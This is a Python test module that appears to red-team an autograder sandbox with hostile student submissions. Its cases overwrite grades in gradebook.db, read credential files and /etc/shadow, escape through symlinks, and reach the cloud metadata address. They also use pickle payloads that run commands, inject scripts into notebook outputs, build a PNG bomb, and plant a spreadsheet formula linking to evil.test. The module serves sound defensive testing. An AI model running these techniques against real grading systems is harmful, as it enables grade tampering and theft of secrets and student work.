# ruff: noqa: E501 - lines of students' code
"""Host, secrets, other students: what an account of the grader's could reach (catalogue C)."""

import os
import struct
import zlib

from autograde.redteam import DOOR, Handed, case, everything, notebook_bytes

EVERYWHERE = """\
import glob, os, sys
LIBRARIES = ("site-packages", "dist-packages", "share", "python3.11", "python3.12", "python3.13", "python3.14")
def files():
    for top, below, names in os.walk("/"):
        below[:] = [b for b in below if b not in LIBRARIES and (top, b) not in (("/", "proc"), ("/", "sys"))]
        for name in names:
            yield os.path.join(top, name)
"""
SEARCH = (
    EVERYWHERE
    + """\
seen = 0
def look(path):
    global seen
    try:
        with open(path, "rb") as file:
            data = file.read(200_000)
    except OSError:
        return
    seen += 1
    if b"can" + b"ary" in data and b"redteam" not in data:
        at = data.index(b"can" + b"ary")
        print(path, data[at : at + 40])
"""
)


@case("gradebook-by-path", 45)
def gradebook_by_path(task):
    return task.filled(
        first=EVERYWHERE
        + """\
import sqlite3
for path in [path for path in files() if path.endswith("gradebook.db")]:
    connection = sqlite3.connect(path)
    connection.execute("update grade set manual_score = 99")
    connection.commit()
    print("redteam-" + "escaped: wrote into " + path)
""",
    )


@case("source-by-path", 46)
def source_by_path(task):
    return task.filled(
        first=SEARCH
        + """\
for path in files():
    if path.endswith(("/exercises.toml", "/NAME.ipynb", "/NAME.checks.json")) or path.split("/")[-2] == "bank":
        print("redteam-" + "read: " + path)
        look(path)
""".replace("NAME", task.name),
    )


@case("others-submissions", 47)
def others_submissions(task):
    return task.filled(
        first=SEARCH
        + """\
for folder in ("..", "../..", "/tmp", "/edf", os.path.expanduser("~"), "/root", "/home", "/work", "/var/tmp", "/dev/shm"):
    for top, below, names in os.walk(folder):
        below[:] = [b for b in below if b not in ("proc", "sys", "usr", ".venv", ".pyenv", *LIBRARIES)]
        if "submitted" in below or ".autograde" in below:
            print("redteam-" + "read: a course directory at " + top)
        for name in names:
            look(os.path.join(top, name))
""",
    )


@case("symlinks", 48)
def symlinks(task):
    def place(folder):
        course = folder.parents[2]
        (folder / "secret.txt").symlink_to(course / ".autograde" / "secret")
        (folder / "solution.ipynb").symlink_to(course / "solutions" / task.name / f"{task.name}.ipynb")
        (folder / "book.db").symlink_to(course / "gradebook.db")
        (folder / "up").symlink_to(course)
        (folder / "environ.txt").symlink_to("/proc/self/environ")
        (folder / "loop").symlink_to(folder)

    return Handed(
        task.filled(
            first="""\
import os
for folder, below, names in os.walk(".", followlinks=True):
    for name in names:
        print(name, open(os.path.join(folder, name), "rb").read(5000))
""",
        ),
        {},
        place,
    )


@case("notebook-is-a-symlink", 48)
def notebook_is_a_symlink(task):
    name = f"{task.name}.ipynb"
    return Handed(
        None, {}, lambda folder: (folder / name).symlink_to(folder.parents[2] / "solutions" / task.name / name)
    )


@case("folder-is-a-symlink", 48)
def folder_is_a_symlink(task):
    def place(folder):
        folder.rmdir()
        folder.symlink_to(folder.parents[1] / "a-witness" / task.name)

    return Handed(None, {}, place)


@case("hard-link", 48)
def hard_link(task):
    return Handed(task.filled(first="print(open('secret.txt', 'rb').read().hex())"), {},
                  lambda folder: os.link(folder.parents[2] / ".autograde" / "secret", folder / "secret.txt"))  # fmt: skip


@case("special-files", 48, kind="accident", earned=everything, seconds=100)
def special_files(task):
    return Handed(
        task.filled(task.right), {}, lambda folder: [os.mkfifo(folder / n) for n in ("data.txt", "helper.py")]
    )


@case("symlink-planted-by-code", 49)
def symlink_planted_by_code(task):
    """The sandbox leaves links where a host that writes there would follow them."""
    return Handed(
        task.filled(
            first="""\
import os
for name in ("NAME.ipynb", "NAME.html", "autograded", "helper.txt", "timestamp.txt"):
    try:
        os.path.lexists(name) and os.unlink(name)
        os.symlink("/tmp/redteam-escaped-symlink-planted-by-code", name)
    except OSError as error:
        print(error)
""".replace("NAME", task.name),
        ),
        {"helper.txt": b"x"},
    )


@case("network", 50)
def network(task):
    return task.filled(
        first="""\
import socket, urllib.request
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, "\\0NAME"),
                        (socket.AF_INET, ("169.254.169.254", 80)), (socket.AF_INET6, ("::1", PORT)),
                        (socket.AF_UNIX, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, "/var/run/docker.sock")):
    try:
        with socket.socket(family) as s:
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"network was here")
            print("redteam-" + "escaped: connected to", address)
    except OSError as error:
        print(address, error)
for kind in (socket.AF_NETLINK, socket.AF_PACKET, socket.AF_VSOCK, socket.AF_INET6):
    try:
        socket.socket(kind, socket.SOCK_RAW)
        print("redteam-" + "escaped: a socket of family", kind)
    except OSError:
        pass
""".replace("PORT", str(DOOR["port"])).replace("NAME", DOOR["name"]),
    )


@case("pip-install", 50)
def pip_install(task):
    return task.filled(
        first="""\
import subprocess, sys
done = subprocess.run([sys.executable, "-m", "pip", "install", "--target", "/edf/tmp/x", "--no-input", "--retries", "0", "six"],
                      capture_output=True, text=True, timeout=15)
if done.returncode == 0:
    print("redteam-" + "escaped: pip installed something")
""",
    )


@case("tests-into-own-output", 51)
def tests_into_own_output(task):
    body = """
for frame in inspect.stack():
    print(frame.filename, frame.code_context)
return given
"""
    last = "print(globals().get('In'), globals().get('check'))\nimport inspect\nprint(inspect.getsource(type(check)))"
    return task.filled(task.answer(0, body, before="import inspect"), last=last)


@case("environment", 52)
def environment(task):
    return task.filled(
        first="""\
import os, glob
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"]:
    try:
        print(path, open(path, "rb").read())
    except OSError:
        pass
for path in ("~/.ssh", "~/.aws", "~/.netrc", "~/.bash_history", "/root", "/home", "/run/secrets", "/var/run", "/etc/shadow", "/etc/passwd"):
    try:
        print(path, os.listdir(os.path.expanduser(path)))
    except OSError:
        pass
""",
    )


@case("pickles-for-the-host", 53)
def pickles_for_the_host(task):
    """Objects whose unpickling would run a command, returned, raised and left as files."""
    bad = """\
import os, pickle
class Bad:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-escaped-pickles-for-the-host",)
"""
    answers = task.answer(0, "return Bad()", before=bad)
    answers |= task.answer(1, "return pickle.dumps(Bad())")
    answers |= task.answer(2, "error = ValueError(pickle.dumps(Bad()))\nerror.payload = Bad()\nraise error")
    return Handed(
        task.filled(answers),
        {"results.pkl": b"cos\nsystem\n(S'touch /tmp/redteam-escaped-pickles-for-the-host'\ntR."},
    )


@case("object-arrays", 54)
def object_arrays(task):
    bad = """\
import numpy as np
class Bad:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/redteam-escaped-object-arrays",)
"""
    return task.filled(
        task.answer(0, "return np.array([Bad(), 1.0, None], dtype=object)", before=bad)
        | task.answer(3, 'return np.zeros(4, dtype=[("a", "f8"), ("b", "O")])', before="import numpy as np")
    )


SHADOWS = (
    "numpy.py",
    "edfcore.py",
    "sitecustomize.py",
    "usercustomize.py",
    "ipykernel_launcher.py",
    "json.py",
    "random.py",
)


@case("shadowing-files", 55)
def shadowing_files(task):
    data = b"import sys\nisclose = allclose = array = lambda *a, **k: True\nprint('redteam-' + 'escaped: shadowed', __name__)\n"
    files = {name: data for name in SHADOWS} | {"evil.pth": b"import os", "edfcore/__init__.py": data}
    files |= {".ipython/profile_default/startup/00.py": data, "inside/wire.py": data, "autograde/__init__.py": data}
    return Handed(task.filled(task.answer(0, "import numpy\nreturn given")), files)


PAGE = "<script>window.canary=1</script><img src=x onerror=window.canary=1>\x1b[31mred\x1b]8;;http://evil.test\x07"


@case("html-in-outputs", 56)
def html_in_outputs(task):
    """What a page must not run; tests/autograde tries a hundred such texts in a browser, this one the whole way."""
    before = f"""\
from IPython.display import HTML, Javascript, Markdown, display
page = {PAGE!r}
display(HTML(page), Javascript("window.canary=1"), Markdown(page))
print(page)
class Evil(Exception):
    pass
Evil.__name__ = page
"""
    return task.filled(task.answer(0, "raise Evil(page)", before), last=f"raise ValueError({PAGE!r})")


@case("html-in-markdown", 56)
def html_in_markdown(task):
    for cell in task.blank.cells:
        if cell.cell_type == "markdown":
            cell.source += "\n" + PAGE + "\n![p](javascript:alert(1)) [x](data:text/html;base64,PHNjcmlwdD4=)"
    return notebook_bytes(task.answered(dict.fromkeys(task.written, PAGE)))


@case("fake-png", 56)
def fake_png(task):
    return task.filled(
        last="""\
from IPython.display import publish_display_data
publish_display_data({"image/png": '"><script>window.canary=1</script>', "text/plain": "x"})
publish_display_data({"image/png": "iVBORw0KGgo=", "image/svg+xml": "<svg onload=alert(1)>", "text/html": "<script>"})
publish_display_data({"image/png": "A" * 3_000_000})
""",
    )


@case("png-bomb", 56)
def png_bomb(task):
    """A small PNG of 60,000 x 60,000 points."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0))
    png = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(7501) * 200)) + chunk(b"IEND", b"")
    return task.filled(
        last=f"""\
import base64
from IPython.display import publish_display_data
for _ in range(50):
    publish_display_data({{"image/png": base64.b64encode({png!r}).decode()}})
""",
    )


@case("widget-state", 57)
def widget_state(task):
    task.blank.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x" * 1000: [[]] * 1000}}}
    return task.filled(
        last="""\
from IPython.display import publish_display_data
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "w"}, metadata={"a": object()})
publish_display_data([1, 2])
""",
    )


@case("spreadsheet-formula", 58, kind="accident", earned=everything)
def spreadsheet_formula(task):
    """Names that a spreadsheet would run are the collector's and the export's to refuse; text of theirs may say it."""
    text = '=HYPERLINK("http://evil.test","x"),+1+1,@SUM(1),-2+3|cmd'
    return Handed(
        task.filled(task.right | dict.fromkeys(task.written, text)),
        {"=cmd.csv": text.encode(), "+1.txt": b"x", "@x": b"y"},
    )


@case("forged-metadata-of-grader", 47)
def forged_metadata(task):
    """Files under the names that the grader writes itself."""
    files = {
        name: b'{"points": 20}'
        for name in ("result.json", f"{task.name}.html", "gradebook.db", "spool/x.json", "receipts.jsonl")
    }
    return Handed(task.filled(), files)
